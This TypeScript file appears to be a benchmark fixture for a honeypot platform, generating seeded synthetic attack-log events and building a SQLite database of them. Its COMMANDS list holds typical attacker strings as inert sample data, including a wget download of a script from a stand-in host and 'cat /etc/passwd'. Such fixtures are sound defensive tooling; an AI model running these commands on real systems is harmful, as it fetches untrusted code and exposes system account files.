// A synthetic event database for API benchmarks: realistic spread of deckies, services, event
// types and attacker addresses, raw lines of typical length. Deterministic (seeded), so two runs
// measure the same data.
import { existsSync, renameSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Db } from '../../src/db/types.ts';
import type { LogEventInput } from '../../src/db/logs/repo.ts';

const SERVICES = ['ssh', 'http', 'https', 'smb', 'rdp', 'mysql', 'redis', 'ftp', 'telnet', 'smtp'];
const EVENTS = ['connect', 'disconnect', 'auth_attempt', 'command', 'request', 'scan', 'payload'];
const USERS = ['root', 'admin', 'ubuntu', 'test', 'oracle', 'postgres', 'pi', 'user'];
const COMMANDS = ['uname -a', 'cat /etc/passwd', 'wget http://198.51.100.7/x.sh', 'id', 'ls -la /tmp', 'curl -s ipinfo.io', 'nproc', 'free -m'];

function rng(seed: number): () => number {
  let x = seed >>> 0 || 1;
  return () => {
    x ^= x << 13;
    x ^= x >>> 17;
    x ^= x << 5;
    return (x >>> 0) / 0x100000000;
  };
}

export function syntheticEvents(count: number, opts: { seed?: number; startMs?: number; spanMs?: number; attackers?: number; deckies?: number } = {}): LogEventInput[] {
  const r = rng(opts.seed ?? 42);
  const start = opts.startMs ?? Date.UTC(2025, 0, 1);
  const span = opts.spanMs ?? 30 * 86_400_000;
  const attackers = opts.attackers ?? 5000;
  const deckies = opts.deckies ?? 50;
  const out: LogEventInput[] = [];
  for (let i = 0; i < count; i++) {
    const ts = new Date(start + Math.floor((i / count) * span)).toISOString();
    const a = Math.floor(r() ** 2 * attackers); // a few attackers make most of the noise
    const ip = `203.0.${(a >> 8) & 0xff}.${a & 0xff}`;
    const decky = `decky-${String(Math.floor(r() * deckies) + 1).padStart(2, '0')}`;
    const service = SERVICES[Math.floor(r() * SERVICES.length)];
    const event = EVENTS[Math.floor(r() * EVENTS.length)];
    const fields: Record<string, unknown> = { src_port: 1024 + Math.floor(r() * 60000) };
    if (event === 'auth_attempt') fields.username = USERS[Math.floor(r() * USERS.length)];
    if (event === 'command') fields.command = COMMANDS[Math.floor(r() * COMMANDS.length)];
    const sd = Object.entries(fields).map(([k, v]) => `${k}="${v}"`).join(' ');
    out.push({
      ts,
      decky,
      service,
      event_type: event,
      attacker_ip: ip,
      src_port: fields.src_port as number,
      dst_port: 22,
      fields,
      msg: `${event} from ${ip}`,
      raw_line: `<134>1 ${ts} ${decky} ${service} - ${event} [decnet@55555 src_ip="${ip}" ${sd}] ${event} from ${ip}`,
      dedupe_key: `bench:${i}`,
    });
  }
  return out;
}

/** Appends `count` synthetic events in chunks (keeps memory flat for millions of rows). */
export async function fillLogs(db: Db, count: number, onProgress?: (done: number) => void): Promise<void> {
  const { appendLogs } = await import('../../src/db/logs/repo.ts');
  const chunk = 20_000;
  for (let done = 0; done < count; done += chunk) {
    const n = Math.min(chunk, count - done);
    const events = syntheticEvents(n, { seed: 42 + done, startMs: Date.UTC(2025, 0, 1) + done * 2_000, spanMs: n * 2_000 });
    for (const e of events) e.dedupe_key = `bench:${done}:${e.dedupe_key}`;
    await appendLogs(db, events);
    onProgress?.(done + n);
  }
}

/**
 * The path of a SQLite database holding exactly `events` synthetic events, built once (about a
 * minute per million) and kept in $TMPDIR; DECNET_BENCH_LOGS_DB names another path.
 */
export async function eventDatabase(events: number): Promise<string> {
  const path = process.env.DECNET_BENCH_LOGS_DB ?? join(tmpdir(), `decnet-bench-logs-${events}.db`);
  const { openDatabase } = await import('../../src/db/connection.ts');
  if (existsSync(path)) {
    const db = await openDatabase(`sqlite:${path}`);
    const { countLogs } = await import('../../src/db/logs/repo.ts');
    const n = await countLogs(db);
    await db.close();
    if (n === events) return path;
    rmSync(path, { force: true });
  }
  const building = `${path}.building`;
  for (const suffix of ['', '-wal', '-shm']) rmSync(building + suffix, { force: true });
  process.stderr.write(`building ${events} events in ${path} (once) …\n`);
  const started = Date.now();
  const db = await openDatabase(`sqlite:${building}`);
  await fillLogs(db, events, (done) => {
    if (done % 100_000 === 0) process.stderr.write(`  ${done} (${Math.round((Date.now() - started) / 1000)} s)\n`);
  });
  await db.close();
  renameSync(building, path);
  return path;
}
